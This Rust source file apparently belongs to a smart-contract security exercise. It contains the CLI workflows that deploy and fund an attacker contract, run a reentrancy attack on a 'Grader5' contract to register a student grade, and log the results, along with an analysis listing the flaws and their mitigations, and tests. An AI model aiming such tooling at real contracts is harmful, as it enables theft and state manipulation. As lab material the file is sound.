//! End-to-end workflows behind the CLI subcommands.
//!
//! Each workflow takes an open [`LocalChain`] and the loaded [`AppConfig`]
//! and returns a plain outcome value; printing is left to the binary.

use std::fmt;

use chrono::Utc;
use reentry_attacker::ReentryDecision;
use reentry_core::abi::IGrader5;
use reentry_core::constants::{grade_for, milli_ether};
use reentry_core::{Address, B256, U256};
use serde::Serialize;

use crate::chain::LocalChain;
use crate::client::{AttackClient, AttackReport, AttackStatus};
use crate::config::AppConfig;
use crate::error::NodeError;
use crate::record::DeploymentRecord;

/// Controller balance below which pre-check warns.
pub fn min_controller_balance() -> U256 {
    milli_ether(10)
}

// ---------------------------------------------------------------------------
// deploy
// ---------------------------------------------------------------------------

#[derive(Debug, Clone)]
pub struct DeployOutcome {
    pub record: DeploymentRecord,
    /// Value sent to the driver right after deployment.
    pub deposit: U256,
    /// Target counter for the new driver.
    pub counter: U256,
    pub graded: bool,
}

/// Deploy a driver, fund it and write the deployment record.
pub fn deploy(chain: &mut LocalChain, config: &AppConfig) -> Result<DeployOutcome, NodeError> {
    let (mut client, receipt) = AttackClient::deploy(chain, config)?;

    let deposit = U256::from(config.initial_deposit_wei);
    if !deposit.is_zero() {
        client.deposit(config.controller, deposit)?;
        tracing::info!(driver = %client.driver(), %deposit, "driver funded");
    }

    let counter = client.counter()?;
    let graded = client.is_graded()?;

    let record = DeploymentRecord {
        contract_address: client.driver(),
        transaction_hash: receipt.tx_hash,
        deployer_address: config.controller,
        network: config.network.clone(),
        timestamp: Utc::now(),
        student_name: config.student_name.clone(),
        target_contract: config.target,
        attack_executed: false,
        attack_transaction_hash: None,
        student_registered: None,
        attack_timestamp: None,
        final_grade: None,
        last_attack_state: None,
    };
    record.save(&config.record_path())?;

    Ok(DeployOutcome {
        record,
        deposit,
        counter,
        graded,
    })
}

// ---------------------------------------------------------------------------
// attack
// ---------------------------------------------------------------------------

#[derive(Debug, Clone)]
pub enum AttackOutcome {
    /// The driver was graded by an earlier run; nothing was sent.
    AlreadyGraded { name: String, grade: U256 },
    /// An attack transaction was mined. Check [`AttackReport::is_success`].
    Executed { name: String, report: AttackReport },
}

impl AttackOutcome {
    pub fn is_success(&self) -> bool {
        match self {
            Self::AlreadyGraded { .. } => true,
            Self::Executed { report, .. } => report.is_success(),
        }
    }
}

/// Run `attackAndRegister` through the recorded driver and fold the result
/// into the deployment record.
pub fn attack(chain: &mut LocalChain, config: &AppConfig) -> Result<AttackOutcome, NodeError> {
    let path = config.record_path();
    let mut record = DeploymentRecord::load(&path)?;
    if record.student_name.trim().is_empty() {
        record.student_name = config.student_name.clone();
    }
    let name = record.student_name.clone();
    if name.trim().is_empty() {
        return Err(NodeError::Config("student_name is not set".into()));
    }

    let mut client = AttackClient::new(chain, record.contract_address, config.controller, record.target_contract);

    match client.status() {
        Ok(status) if status.graded => {
            let grade = client.student_grade(&name)?;
            tracing::info!(%name, %grade, "driver already graded");
            return Ok(AttackOutcome::AlreadyGraded { name, grade });
        }
        Ok(status) => tracing::debug!(state = %status.state, counter = %status.counter, "pre-attack status"),
        Err(err) => tracing::warn!(%err, "could not read driver status, attacking anyway"),
    }

    let report = client.attack_and_register(&name, config.attack_value())?;
    record.record_attack(report.tx_hash, report.state, report.grade, Utc::now());
    record.save(&path)?;

    if report.is_success() {
        tracing::info!(%name, grade = ?report.grade, reentries = report.max_nesting.saturating_sub(1), "attack completed");
    }
    Ok(AttackOutcome::Executed { name, report })
}

// ---------------------------------------------------------------------------
// status / fund / withdraw
// ---------------------------------------------------------------------------

fn recorded_client<'c>(
    chain: &'c mut LocalChain,
    config: &AppConfig,
) -> Result<(AttackClient<'c>, DeploymentRecord), NodeError> {
    let record = DeploymentRecord::load(&config.record_path())?;
    let client = AttackClient::new(chain, record.contract_address, config.controller, record.target_contract);
    Ok((client, record))
}

/// Status of the recorded driver.
pub fn status(chain: &mut LocalChain, config: &AppConfig) -> Result<(DeploymentRecord, AttackStatus), NodeError> {
    let (mut client, record) = recorded_client(chain, config)?;
    let status = client.status()?;
    Ok((record, status))
}

/// Send `amount` from the controller to the recorded driver.
pub fn fund(chain: &mut LocalChain, config: &AppConfig, amount: U256) -> Result<B256, NodeError> {
    let (mut client, _) = recorded_client(chain, config)?;
    let receipt = client.deposit(config.controller, amount)?;
    Ok(receipt.tx_hash)
}

/// Move the recorded driver's balance back to the controller.
pub fn withdraw(chain: &mut LocalChain, config: &AppConfig) -> Result<U256, NodeError> {
    let (mut client, _) = recorded_client(chain, config)?;
    client.withdraw()
}

// ---------------------------------------------------------------------------
// pre-check
// ---------------------------------------------------------------------------

#[derive(Serialize, Clone, Copy, Debug, PartialEq, Eq)]
pub enum CheckStatus {
    Pass,
    Warn,
    Fail,
}

impl fmt::Display for CheckStatus {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Pass => "PASS",
            Self::Warn => "WARN",
            Self::Fail => "FAIL",
        })
    }
}

#[derive(Serialize, Clone, Debug, PartialEq, Eq)]
pub struct Check {
    pub name: &'static str,
    pub status: CheckStatus,
    pub detail: String,
}

impl Check {
    fn new(name: &'static str, status: CheckStatus, detail: impl Into<String>) -> Self {
        Self {
            name,
            status,
            detail: detail.into(),
        }
    }
}

#[derive(Serialize, Clone, Debug, Default)]
pub struct PreCheckReport {
    pub checks: Vec<Check>,
}

impl PreCheckReport {
    /// No check failed. Warnings do not count.
    pub fn passed(&self) -> bool {
        self.checks.iter().all(|c| c.status != CheckStatus::Fail)
    }

    pub fn get(&self, name: &str) -> Option<&Check> {
        self.checks.iter().find(|c| c.name == name)
    }
}

/// Verify the environment before an attack. Never fails itself; problems
/// show up as failed checks.
pub fn pre_check(chain: &mut LocalChain, config: &AppConfig) -> PreCheckReport {
    use CheckStatus::{Fail, Pass, Warn};

    let mut report = PreCheckReport::default();
    let mut push = |check: Check| {
        tracing::debug!(check = check.name, status = %check.status, "{}", check.detail);
        report.checks.push(check);
    };

    let missing = config.missing_fields();
    push(if missing.is_empty() {
        Check::new("configuration", Pass, "all required settings present")
    } else {
        Check::new("configuration", Fail, format!("missing or invalid: {}", missing.join(", ")))
    });

    push(Check::new(
        "chain",
        Pass,
        format!("chain {} at block {}", chain.chain_id(), chain.block_number()),
    ));

    let balance = chain.balance(config.controller);
    push(if balance >= min_controller_balance() {
        Check::new("controller balance", Pass, format!("{} wei", balance))
    } else {
        Check::new("controller balance", Warn, format!("{} wei, below 0.01 ETH", balance))
    });

    let (reentries, _) = config.policy().simulate(0);
    let needed = config.attack_value().saturating_mul(U256::from(reentries));
    let deposit = U256::from(config.initial_deposit_wei);
    push(if deposit >= needed {
        Check::new("reentry funding", Pass, format!("{reentries} reentries covered by the initial deposit"))
    } else {
        Check::new(
            "reentry funding",
            Warn,
            format!("{reentries} reentries need {needed} wei, initial deposit is {deposit} wei"),
        )
    });

    let has_code = chain.has_code(config.target);
    push(if has_code {
        Check::new("target code", Pass, format!("contract at {}", config.target))
    } else {
        Check::new("target code", Fail, format!("no contract at {}", config.target))
    });
    if !has_code {
        return report;
    }

    let name = config.student_name.clone();
    let registered = chain.view_call(config.controller, config.target, &IGrader5::studentsCall { name: name.clone() });
    push(match registered {
        Ok(grade) if grade._0.is_zero() => Check::new("student name", Pass, format!("\"{name}\" is not registered")),
        Ok(grade) => Check::new(
            "student name",
            Fail,
            format!("\"{name}\" already registered with grade {}", grade._0),
        ),
        Err(err) => Check::new("student name", Fail, err.to_string()),
    });

    push(match read_window(chain, config) {
        Ok((start, deadline)) => {
            let now = U256::from(current_time(chain));
            if start < now && now < deadline {
                Check::new("registration window", Pass, format!("open until {deadline}"))
            } else {
                Check::new("registration window", Fail, format!("closed (start {start}, deadline {deadline})"))
            }
        }
        Err(err) => Check::new("registration window", Fail, err.to_string()),
    });

    report
}

fn current_time(chain: &LocalChain) -> u64 {
    let wall = u64::try_from(Utc::now().timestamp()).unwrap_or_default();
    wall.max(chain.timestamp())
}

fn read_window(chain: &mut LocalChain, config: &AppConfig) -> Result<(U256, U256), NodeError> {
    let start = chain.view_call(config.controller, config.target, &IGrader5::startTimeCall {})?._0;
    let deadline = chain.view_call(config.controller, config.target, &IGrader5::deadlineCall {})?._0;
    Ok((start, deadline))
}

// ---------------------------------------------------------------------------
// complete run
// ---------------------------------------------------------------------------

#[derive(Serialize, Clone, Copy, Debug, PartialEq, Eq)]
pub enum Step {
    PreCheck,
    Deploy,
    Attack,
}

impl Step {
    /// Steps of a complete run, in order.
    pub const ALL: [Step; 3] = [Step::PreCheck, Step::Deploy, Step::Attack];

    pub fn position(self) -> usize {
        match self {
            Self::PreCheck => 1,
            Self::Deploy => 2,
            Self::Attack => 3,
        }
    }
}

impl fmt::Display for Step {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::PreCheck => "pre-check",
            Self::Deploy => "deploy",
            Self::Attack => "attack",
        })
    }
}

/// Result of [`complete`]. Steps after the failing one are `None`.
#[derive(Debug, Clone, Default)]
pub struct CompleteRun {
    pub pre_check: Option<PreCheckReport>,
    pub deployed: Option<DeployOutcome>,
    pub attack: Option<AttackOutcome>,
    /// First step that failed and why.
    pub failure: Option<(Step, String)>,
}

impl CompleteRun {
    pub fn is_success(&self) -> bool {
        self.failure.is_none() && self.attack.as_ref().is_some_and(AttackOutcome::is_success)
    }

    /// Steps that ran to completion.
    pub fn completed_steps(&self) -> usize {
        match &self.failure {
            Some((step, _)) => step.position() - 1,
            None => Step::ALL.len(),
        }
    }

    fn fail(mut self, step: Step, reason: impl Into<String>) -> Self {
        let reason = reason.into();
        tracing::warn!(%step, %reason, "complete run stopped");
        self.failure = Some((step, reason));
        self
    }
}

/// Pre-check, deploy and attack in one go, stopping at the first step that
/// fails. `on_step` is called as each step starts.
pub fn complete(chain: &mut LocalChain, config: &AppConfig, mut on_step: impl FnMut(Step)) -> CompleteRun {
    let mut run = CompleteRun::default();

    on_step(Step::PreCheck);
    let report = pre_check(chain, config);
    let passed = report.passed();
    run.pre_check = Some(report);
    if !passed {
        return run.fail(Step::PreCheck, "pre-check failed, fix the failed checks first");
    }

    on_step(Step::Deploy);
    match deploy(chain, config) {
        Ok(deployed) => run.deployed = Some(deployed),
        Err(err) => return run.fail(Step::Deploy, err.to_string()),
    }

    on_step(Step::Attack);
    match attack(chain, config) {
        Ok(outcome) => {
            let failure = match &outcome {
                AttackOutcome::Executed { report, .. } if !report.is_success() => {
                    Some(report.failure().unwrap_or_else(|| "attack did not complete".into()))
                }
                _ => None,
            };
            run.attack = Some(outcome);
            if let Some(reason) = failure {
                return run.fail(Step::Attack, reason);
            }
        }
        Err(err) => return run.fail(Step::Attack, err.to_string()),
    }
    run
}

// ---------------------------------------------------------------------------
// analysis
// ---------------------------------------------------------------------------

#[derive(Serialize, Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    Critical,
    Medium,
    Low,
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Critical => "CRITICAL",
            Self::Medium => "MEDIUM",
            Self::Low => "LOW",
        })
    }
}

#[derive(Serialize, Clone, Debug, PartialEq, Eq)]
pub struct Finding {
    pub severity: Severity,
    pub title: &'static str,
    pub location: &'static str,
    pub issue: &'static str,
    pub mitigation: &'static str,
}

/// Target state as read through its public getters.
#[derive(Serialize, Clone, Debug, PartialEq, Eq)]
pub struct TargetState {
    pub address: Address,
    pub owner: Address,
    pub student_counter: U256,
    pub divisor: U256,
    pub start_time: U256,
    pub deadline: U256,
    pub balance: U256,
    pub window_open: bool,
    /// Grade the next registration would receive.
    pub next_grade: u64,
}

#[derive(Serialize, Clone, Debug)]
pub struct AnalysisReport {
    pub target: TargetState,
    /// Reentries one attack performs from a zero counter.
    pub predicted_reentries: u64,
    /// Decision that ends the reentry chain.
    pub stop: ReentryDecision,
    pub findings: Vec<Finding>,
}

/// Read the target's state and describe the flaws it exposes.
pub fn analysis(chain: &mut LocalChain, config: &AppConfig) -> Result<AnalysisReport, NodeError> {
    let target = config.target;
    if !chain.has_code(target) {
        return Err(reentry_attacker::AttackError::UpstreamUnavailable { target }.into());
    }
    let from = config.controller;
    let owner = chain.view_call(from, target, &IGrader5::ownerCall {})?._0;
    let student_counter = chain.view_call(from, target, &IGrader5::studentCounterCall {})?._0;
    let divisor = chain.view_call(from, target, &IGrader5::divisorCall {})?._0;
    let (start_time, deadline) = read_window(chain, config)?;
    let now = U256::from(current_time(chain));

    let next_grade = grade_for(saturating_u64(student_counter), saturating_u64(divisor));
    let (predicted_reentries, stop) = config.policy().simulate(0);

    Ok(AnalysisReport {
        target: TargetState {
            address: target,
            owner,
            student_counter,
            divisor,
            start_time,
            deadline,
            balance: chain.balance(target),
            window_open: start_time < now && now < deadline,
            next_grade,
        },
        predicted_reentries,
        stop,
        findings: findings(),
    })
}

fn saturating_u64(value: U256) -> u64 {
    u64::try_from(value).unwrap_or(u64::MAX)
}

/// Flaws of the grader's `retrieve`/`gradeMe` pair.
pub fn findings() -> Vec<Finding> {
    vec![
        Finding {
            severity: Severity::Critical,
            title: "Reentrancy in retrieve",
            location: "retrieve()",
            issue: "the refund is sent with a raw call before the counter reset runs, \
                    so a contract caller can re-enter retrieve from its receive hook",
            mitigation: "guard retrieve with a reentrancy lock and send the refund last",
        },
        Finding {
            severity: Severity::Medium,
            title: "Counter state manipulation",
            location: "counter mapping",
            issue: "the reset only fires when the counter is at or below the threshold after \
                    the refund, so nested calls leave it above the threshold",
            mitigation: "reset or check the counter before any external interaction",
        },
        Finding {
            severity: Severity::Medium,
            title: "Checks-effects-interactions violation",
            location: "retrieve()",
            issue: "state is read and written again after the external call returns",
            mitigation: "finish every state change before the refund transfer, or use pull payments",
        },
        Finding {
            severity: Severity::Low,
            title: "Access control",
            location: "gradeMe(string)",
            issue: "any caller with a counter above the threshold can register any unused name",
            mitigation: "bind registrations to the caller and restrict who may grade",
        },
        Finding {
            severity: Severity::Low,
            title: "Integer overflow",
            location: "studentCounter / grade arithmetic",
            issue: "the grade formula divides by an owner-controlled divisor that may be zero",
            mitigation: "validate setDivisor input and keep checked arithmetic",
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use reentry_attacker::AttackState;
    use std::path::Path;

    fn setup(dir: &Path) -> (AppConfig, LocalChain) {
        let cfg = AppConfig {
            data_dir: dir.to_path_buf(),
            student_name: "Ada".into(),
            ..AppConfig::default()
        };
        let chain = LocalChain::open(&cfg).unwrap();
        (cfg, chain)
    }

    #[test]
    fn deploy_writes_record_and_funds_driver() {
        let dir = tempfile::tempdir().unwrap();
        let (cfg, mut chain) = setup(dir.path());
        let outcome = deploy(&mut chain, &cfg).unwrap();
        assert_eq!(outcome.counter, U256::ZERO);
        assert!(!outcome.graded);
        assert_eq!(chain.balance(outcome.record.contract_address), outcome.deposit);

        let saved = DeploymentRecord::load(&cfg.record_path()).unwrap();
        assert_eq!(saved, outcome.record);
        assert!(!saved.attack_executed);
    }

    #[test]
    fn attack_completes_and_updates_record() {
        let dir = tempfile::tempdir().unwrap();
        let (cfg, mut chain) = setup(dir.path());
        deploy(&mut chain, &cfg).unwrap();

        let outcome = attack(&mut chain, &cfg).unwrap();
        let AttackOutcome::Executed { report, .. } = &outcome else {
            panic!("expected an executed attack, got {outcome:?}");
        };
        assert_eq!(report.state, AttackState::Completed);
        assert_eq!(report.grade, Some(U256::from(100)));

        let record = DeploymentRecord::load(&cfg.record_path()).unwrap();
        assert!(record.attack_executed);
        assert_eq!(record.student_registered.as_deref(), Some("Ada"));
        assert_eq!(record.final_grade, Some(U256::from(100)));
        assert_eq!(record.last_attack_state, Some(AttackState::Completed));
    }

    #[test]
    fn second_attack_reports_existing_grade() {
        let dir = tempfile::tempdir().unwrap();
        let (cfg, mut chain) = setup(dir.path());
        deploy(&mut chain, &cfg).unwrap();
        attack(&mut chain, &cfg).unwrap();

        let block = chain.block_number();
        let outcome = attack(&mut chain, &cfg).unwrap();
        assert!(matches!(outcome, AttackOutcome::AlreadyGraded { grade, .. } if grade == U256::from(100)));
        assert_eq!(chain.block_number(), block);
    }

    #[test]
    fn attack_without_record_says_deploy_first() {
        let dir = tempfile::tempdir().unwrap();
        let (cfg, mut chain) = setup(dir.path());
        let err = attack(&mut chain, &cfg).unwrap_err();
        assert!(err.to_string().contains("deploy first"));
    }

    #[test]
    fn taken_name_records_failed_attack() {
        let dir = tempfile::tempdir().unwrap();
        let (cfg, mut chain) = setup(dir.path());
        deploy(&mut chain, &cfg).unwrap();
        attack(&mut chain, &cfg).unwrap();

        // A second driver going for the same name.
        deploy(&mut chain, &cfg).unwrap();
        let outcome = attack(&mut chain, &cfg).unwrap();
        assert!(!outcome.is_success());
        let record = DeploymentRecord::load(&cfg.record_path()).unwrap();
        assert_eq!(record.last_attack_state, Some(AttackState::Failed));
        assert!(record.student_registered.is_none());
    }

    #[test]
    fn withdraw_returns_funds_to_controller() {
        let dir = tempfile::tempdir().unwrap();
        let (cfg, mut chain) = setup(dir.path());
        let outcome = deploy(&mut chain, &cfg).unwrap();
        let before = chain.balance(cfg.controller);
        let amount = withdraw(&mut chain, &cfg).unwrap();
        assert_eq!(amount, outcome.deposit);
        assert_eq!(chain.balance(cfg.controller), before + amount);
        assert!(withdraw(&mut chain, &cfg).is_err());
    }

    #[test]
    fn pre_check_passes_on_fresh_chain() {
        let dir = tempfile::tempdir().unwrap();
        let (cfg, mut chain) = setup(dir.path());
        let report = pre_check(&mut chain, &cfg);
        assert!(report.passed(), "{report:?}");
        assert_eq!(report.get("registration window").unwrap().status, CheckStatus::Pass);
    }

    #[test]
    fn pre_check_fails_without_student_name() {
        let dir = tempfile::tempdir().unwrap();
        let (cfg, mut chain) = setup(dir.path());
        let cfg = AppConfig {
            student_name: String::new(),
            ..cfg
        };
        let report = pre_check(&mut chain, &cfg);
        assert!(!report.passed());
        assert_eq!(report.get("configuration").unwrap().status, CheckStatus::Fail);
    }

    #[test]
    fn pre_check_warns_on_poor_controller() {
        let dir = tempfile::tempdir().unwrap();
        let (cfg, mut chain) = setup(dir.path());
        let cfg = AppConfig {
            controller: Address::repeat_byte(0x99),
            ..cfg
        };
        let report = pre_check(&mut chain, &cfg);
        assert_eq!(report.get("controller balance").unwrap().status, CheckStatus::Warn);
        assert!(report.passed());
    }

    #[test]
    fn pre_check_fails_on_missing_target() {
        let dir = tempfile::tempdir().unwrap();
        let (cfg, mut chain) = setup(dir.path());
        let cfg = AppConfig {
            target: Address::repeat_byte(0x01),
            ..cfg
        };
        let report = pre_check(&mut chain, &cfg);
        assert_eq!(report.get("target code").unwrap().status, CheckStatus::Fail);
        assert!(report.get("student name").is_none());
    }

    #[test]
    fn analysis_reads_target_state() {
        let dir = tempfile::tempdir().unwrap();
        let (cfg, mut chain) = setup(dir.path());
        let report = analysis(&mut chain, &cfg).unwrap();
        assert_eq!(report.target.owner, crate::chain::GRADER_OWNER);
        assert_eq!(report.target.student_counter, U256::ZERO);
        assert_eq!(report.target.next_grade, 100);
        assert!(report.target.window_open);
        assert_eq!(report.predicted_reentries, 1);
        assert_eq!(report.stop, ReentryDecision::ThresholdReached);
        assert_eq!(report.findings.len(), 5);
        assert_eq!(report.findings[0].severity, Severity::Critical);
    }

    #[test]
    fn analysis_without_target_is_upstream_unavailable() {
        let dir = tempfile::tempdir().unwrap();
        let (cfg, mut chain) = setup(dir.path());
        let cfg = AppConfig {
            target: Address::repeat_byte(0x01),
            ..cfg
        };
        assert!(matches!(
            analysis(&mut chain, &cfg),
            Err(NodeError::Attack(reentry_attacker::AttackError::UpstreamUnavailable { .. }))
        ));
    }
}
